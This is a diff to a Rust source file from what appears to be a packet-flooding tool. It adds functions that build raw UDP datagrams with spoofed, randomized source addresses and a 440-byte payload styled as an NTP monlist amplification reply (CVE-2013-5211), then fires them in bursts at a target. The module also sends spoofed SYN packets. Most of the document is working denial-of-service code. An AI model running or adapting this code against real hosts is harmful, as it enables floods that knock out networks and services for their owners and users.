@@ -1,6 +1,6 @@
-//! SYNs in the name of addresses that nobody has.
+//! SYNs and datagrams in the name of addresses that nobody has.
 //!
-//! Owns: their bytes, and sending them past the kernel's TCP. Does not own: rhythm and bounds (`attack`).
+//! Owns: their bytes, and sending them past the kernel's own. Does not own: rhythm and bounds (`attack`).
 
 use std::io;
 use std::net::{Ipv4Addr, SocketAddr, SocketAddrV4};
@@ -25,6 +25,47 @@ pub(super) fn send(to: SocketAddrV4, burst: u32, number: u32) -> io::Result<()> 
         sendto(&raw, &segment, SendFlags::empty(), &SocketAddr::V4(to))?;
     }
     Ok(())
+}
+
+/// Sends a burst of datagrams from one port, as services would that were asked in the target's name.
+pub(super) fn answers(to: Ipv4Addr, from_port: u16, burst: u32, number: u32) -> io::Result<()> {
+    /// As an NTP server's list of its last clients (CVE-2013-5211).
+    const ANSWER: [u8; 440] = [0xd7; 440];
+    let raw = socket(AddressFamily::INET, SocketType::RAW, Some(ipproto::RAW))?;
+    let mut random = Random::new(u64::from(number) + 1);
+    for _ in 0..burst {
+        // Few services, many answers each.
+        let source = Ipv4Addr::from(FIRST + (random.next() % 256) as u32);
+        let port = 1_024 + (random.next() % 60_000) as u16;
+        let datagram = udp(
+            SocketAddrV4::new(source, from_port),
+            SocketAddrV4::new(to, port),
+            &ANSWER,
+        );
+        sendto(
+            &raw,
+            &datagram,
+            SendFlags::empty(),
+            &SocketAddr::V4(SocketAddrV4::new(to, port)),
+        )?;
+    }
+    Ok(())
+}
+
+/// A datagram (RFC 768), without a checksum.
+fn udp(from: SocketAddrV4, to: SocketAddrV4, body: &[u8]) -> Vec<u8> {
+    const UDP: u8 = 17;
+    let length = 8 + body.len();
+    // The kernel fills in the length and the sum of the header.
+    let mut packet = vec![0x45, 0, 0, 0, 0, 0, 0, 0, 64, UDP, 0, 0];
+    packet.extend(from.ip().octets());
+    packet.extend(to.ip().octets());
+    packet.extend(from.port().to_be_bytes());
+    packet.extend(to.port().to_be_bytes());
+    packet.extend((length as u16).to_be_bytes());
+    packet.extend([0, 0]);
+    packet.extend(body);
+    packet
 }
 
 /// A packet that asks for a conversation (RFC 791, RFC 9293), without options.
